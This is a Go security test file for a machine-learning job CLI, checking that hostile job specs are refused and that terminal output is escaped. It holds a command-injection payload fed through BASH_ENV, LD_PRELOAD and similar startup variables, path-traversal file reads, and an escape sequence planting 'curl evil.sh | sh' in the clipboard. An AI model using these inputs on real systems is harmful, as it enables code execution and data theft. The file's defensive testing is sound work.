package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/hangar-ml/hangar/internal/api"
	"github.com/hangar-ml/hangar/internal/job"
)

// A value given for ${{inputs.x}} (in the YAML or with --set) is put where bash, or the dynamic
// loader, reads a variable as a program starts: BASH_ENV=${{inputs.setup}} bash x.sh, its export
// and env forms, ENV, an exported function, LD_PRELOAD. Each would run the value (it writes a
// canary file); each is refused at submit with the file, the field and the variable, nothing is
// created, and no canary appears. The same job sent straight to the API is refused by the server,
// and so is a secret put in BASH_ENV through environment_variables.
func TestSecurityBoundValueInStartupVariable(t *testing.T) {
	w := newWS(t)
	dir := t.TempDir()
	canary := filepath.Join(dir, "canary")
	payload := "$(id > " + canary + ")"
	writeFiles(t, dir, map[string]string{"x.sh": "echo ran\n"})
	attacks := []struct {
		name, command, variable string
	}{
		{"prefix", "BASH_ENV=${{inputs.setup}} bash x.sh", "BASH_ENV"},
		{"export", "export BASH_ENV=${{inputs.setup}}; bash x.sh", "BASH_ENV"},
		{"env", "env BASH_ENV=${{inputs.setup}} bash x.sh", "BASH_ENV"},
		{"declare -x, part of a word", "declare -x BASH_ENV=/tmp/${{inputs.setup}}; bash x.sh", "BASH_ENV"},
		{"ENV", "ENV=${{inputs.setup}} sh -i < /dev/null", "ENV"},
		{"exported function", "env 'BASH_FUNC_ls%%=${{inputs.setup}}' bash -c ls", "BASH_FUNC_ls%%"},
		{"loader", "LD_PRELOAD=${{inputs.setup}} bash x.sh", "LD_PRELOAD"},
	}
	for _, a := range attacks {
		for _, from := range []string{"yaml", "--set"} {
			t.Run(a.name+" from "+from, func(t *testing.T) {
				yml := "command: " + yamlQuote(a.command) + "\ncode: .\ninputs:\n  setup: " + yamlQuote("harmless") + "\n"
				args := []string{"job", "create", "-f", filepath.Join(dir, "job.yml")}
				if from == "yaml" {
					yml = strings.Replace(yml, yamlQuote("harmless"), yamlQuote(payload), 1)
				} else {
					args = append(args, "--set", "inputs.setup="+payload)
				}
				writeFiles(t, dir, map[string]string{"job.yml": yml})
				r := w.run(args...)
				want := "job.yml: command: ${{inputs.setup}} would be put in " + a.variable + ", a variable whose value is code ("
				if r.code == 0 || !strings.Contains(r.stderr, want) {
					t.Errorf("exit %d, stderr %q; want a refusal saying %q", r.code, r.stderr, want)
				}
			})
		}
	}
	c := w.client()
	ctx := context.Background()
	_, err := c.Jobs.Create(ctx, api.CreateJobRequest{Spec: job.Spec{Command: "BASH_ENV=${{inputs.setup}} bash -c :",
		Inputs: map[string]job.Input{"setup": {Type: job.InputString, Value: payload}}}})
	wantAPIError(t, err, "command: ${{inputs.setup}} would be put in BASH_ENV")
	_, err = c.Jobs.Create(ctx, api.CreateJobRequest{Spec: job.Spec{Command: "bash -c :",
		EnvironmentVariables: map[string]string{"BASH_ENV": "${{secrets.setup}}"}}})
	wantAPIError(t, err, "environment_variables.BASH_ENV: ${{secrets.setup}} would be put in BASH_ENV, a variable whose value is code")
	writeFiles(t, dir, map[string]string{"env.yml": "command: bash x.sh\nenvironment_variables:\n  BASH_ENV: '${{secrets.setup}}'\n"})
	r := w.run("job", "create", "-f", filepath.Join(dir, "env.yml"))
	if want := "env.yml: environment_variables.BASH_ENV: ${{secrets.setup}} would be put in BASH_ENV"; r.code == 0 || !strings.Contains(r.stderr, want) {
		t.Errorf("a secret in BASH_ENV: exit %d, stderr %q; want %q", r.code, r.stderr, want)
	}
	noJobs(t, w)
	if _, err := os.Stat(canary); err == nil {
		t.Error("a bound value ran: the canary exists")
	}
}

// A spec's other slips that Hangar took silently: an environment variable named 1BAD (taken,
// then missing from the run) and a command that YAML reads as a number or a boolean (command: 123
// ran the program 123, command: true ran the builtin true and Completed). Each is refused with the
// file, the field path and what is expected, from the CLI and, for the name, from the API.
func TestSecuritySpecSlipsAreRefused(t *testing.T) {
	w := newWS(t)
	dir := t.TempDir()
	tests := []struct {
		name, yml, want string
	}{
		{"variable name starting with a digit", "command: echo hi\nenvironment_variables:\n  1BAD: x\n",
			`job.yml: environment_variables.1BAD: invalid environment variable name "1BAD": expected a letter or _ then letters, digits or _, as a shell variable's name (line 3)`},
		{"command as a number", "command: 123\n",
			`job.yml: command: expected a shell command (a string), got the integer 123; quote it ("123") if you mean that text (line 1)`},
		{"command as a boolean", "command: true\n", `job.yml: command: expected a shell command (a string), got the boolean true`},
		{"command as a mapping", "command: {run: train}\n", `job.yml: command: expected a shell command (a string), got a mapping (line 1)`},
		{"command as a list", "command: [python, train.py]\n", `job.yml: command: expected a shell command (a string), got a list (line 1)`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			writeFiles(t, dir, map[string]string{"job.yml": tt.yml})
			r := w.run("job", "create", "-f", filepath.Join(dir, "job.yml"))
			if r.code == 0 || !strings.Contains(r.stderr, tt.want) {
				t.Errorf("exit %d, stderr %q; want %q", r.code, r.stderr, tt.want)
			}
		})
	}
	_, err := w.client().Jobs.Create(context.Background(), api.CreateJobRequest{Spec: job.Spec{Command: "echo hi",
		EnvironmentVariables: map[string]string{"1BAD": "x"}}})
	wantAPIError(t, err, `environment_variables.1BAD: invalid environment variable name "1BAD"`)
	noJobs(t, w)
}

// A spec received from elsewhere names a file of the user's outside its folder as its conda
// file or requirements (an absolute path, ../.., a link that leads out): job create would read it
// and store its text in the job for every reader of the workspace. It is refused, with the file,
// the field, the folder and how to allow it, and the secret's text shows nowhere. Given on the
// command line (--set) or under --spec-root, the same file is read.
func TestSecuritySpecFilesStayInTheSpecFolder(t *testing.T) {
	w := newWS(t)
	top := t.TempDir()
	secret := filepath.Join(top, "private", "secret.yml")
	writeFiles(t, top, map[string]string{"private/secret.yml": "dependencies: [the-private-text]\n",
		"proj/env.yml": "name: e\nimage: python:3.12\n"})
	proj := filepath.Join(top, "proj")
	if err := os.Symlink(secret, filepath.Join(proj, "conda.yml")); err != nil {
		t.Fatal(err)
	}
	realProj, err := filepath.EvalSymlinks(proj)
	if err != nil {
		t.Fatal(err)
	}
	attacks := []struct{ name, field, value string }{
		{"absolute path", "conda_file", secret},
		{"up the tree", "conda_file", "../private/secret.yml"},
		{"a link inside leading out", "conda_file", "conda.yml"},
		{"requirements", "requirements", "../private/secret.yml"},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			writeFiles(t, proj, map[string]string{"job.yml": "command: echo hi\nenvironment:\n  image: python:3.12\n  " + a.field + ": " + a.value + "\n"})
			r := w.run("job", "create", "-f", filepath.Join(proj, "job.yml"))
			for _, want := range []string{"job.yml: environment." + a.field + ": " + a.value, " is outside " + realProj + ", the folder of job.yml",
				"--set environment." + a.field + "=", "--spec-root DIR"} {
				if r.code == 0 || !strings.Contains(r.stderr, want) {
					t.Errorf("exit %d, stderr %q; want %q", r.code, r.stderr, want)
				}
			}
			if strings.Contains(r.stdout+r.stderr, "the-private-text") {
				t.Error("the file's text was shown")
			}
		})
	}
	noJobs(t, w)
	var list []json.RawMessage
	if err := json.Unmarshal([]byte(w.ok("environment", "list", "-o", "json").stdout), &list); err != nil || len(list) != 0 {
		t.Fatalf("environments after the refusals: %d (%v)", len(list), err)
	}
	// Named on the command line, the user's own choice: read and stored.
	envFile := filepath.Join(proj, "env.yml")
	w.ok("environment", "create", "-f", envFile, "--name", "by-set", "--set", "conda_file="+secret)
	writeFiles(t, proj, map[string]string{"wide.yml": "name: by-root\nimage: python:3.12\nconda_file: ../private/secret.yml\n"})
	w.ok("environment", "create", "-f", filepath.Join(proj, "wide.yml"), "--spec-root", top)
	for _, name := range []string{"by-set", "by-root"} {
		if out := w.ok("environment", "show", name, "-o", "json").stdout; !strings.Contains(out, "the-private-text") {
			t.Errorf("environment %s does not hold the file it was given explicitly:\n%s", name, out)
		}
	}
}

// A job prints terminal escape sequences: an OSC 52 clipboard write, a screen clear, a window
// title and colours. `job logs` on a terminal shows them escaped (the terminal receives no ESC),
// `--raw` passes them, and a pipe gets the exact bytes, as before.
func TestSecurityLogEscapesOnATerminal(t *testing.T) {
	w := newWS(t)
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"x.sh":    `printf 'start \033]52;c;Y3VybCBldmlsLnNoIHwgc2g=\007\033[2J\033]0;pwned\007\033[31mred\033[0m end\n'` + "\n",
		"job.yml": "command: bash x.sh\ncode: .\n",
	})
	id := w.create(filepath.Join(dir, "job.yml"))
	if d := w.waitStatus(id, 2*time.Minute, job.Completed, job.Failed, job.Canceled); d.Status != job.Completed {
		t.Fatalf("run %s: %s %s", id, d.Status, d.StatusReason)
	}
	raw := "start \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x1b[0m end"
	shown := `start \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x1b[0m end`
	for _, verb := range []string{"logs", "stream"} {
		out, stderr := w.onTerminal(t, "job", verb, id)
		if strings.Contains(out, "\x1b") || !strings.Contains(out, shown) {
			t.Errorf("job %s on a terminal: got %q (stderr %q), want %q and no ESC byte", verb, out, stderr, shown)
		}
	}
	if out, stderr := w.onTerminal(t, "job", "logs", id, "--raw"); !strings.Contains(out, raw) {
		t.Errorf("job logs --raw on a terminal: got %q (stderr %q), want the bytes %q", out, stderr, raw)
	}
	if r := w.ok("job", "logs", id); !strings.Contains(r.stdout, raw+"\n") {
		t.Errorf("job logs into a pipe: got %q, want the bytes %q", r.stdout, raw)
	}
}

// onTerminal runs the CLI with its stdout on a pseudo-terminal and returns what the terminal
// received, and stderr.
func (w *ws) onTerminal(t *testing.T, args ...string) (string, string) {
	t.Helper()
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Fatalf("open a pty: %v", err)
	}
	defer ptmx.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, hangarBin, args...)
	cmd.Env = w.env()
	var stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = tty, &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	tty.Close() // the child holds it; reading ends when the child is gone
	out, err := io.ReadAll(ptmx)
	if err != nil && !errors.Is(err, syscall.EIO) { // Linux ends a pty's reads with EIO
		t.Fatalf("read the terminal: %v", err)
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("hangar %v: %v\n%s", args, err, stderr.String())
	}
	return strings.ReplaceAll(string(out), "\r\n", "\n"), stderr.String()
}

// yamlQuote writes s as a single-quoted YAML scalar.
func yamlQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

// wantAPIError checks that the server refused a request as invalid, saying want.
func wantAPIError(t *testing.T, err error, want string) {
	t.Helper()
	var ae *api.Error
	if !errors.As(err, &ae) || ae.Code != api.CodeInvalid || !strings.Contains(ae.Message, want) {
		t.Errorf("the API answered %v; want it refused as invalid, saying %q", err, want)
	}
}

// noJobs checks that the workspace has no job.
func noJobs(t *testing.T, w *ws) {
	t.Helper()
	var list []api.RunDetail
	if err := json.Unmarshal([]byte(w.ok("job", "list", "-o", "json").stdout), &list); err != nil {
		t.Fatal(err)
	}
	if len(list) != 0 {
		t.Errorf("refused jobs created %d runs", len(list))
	}
}
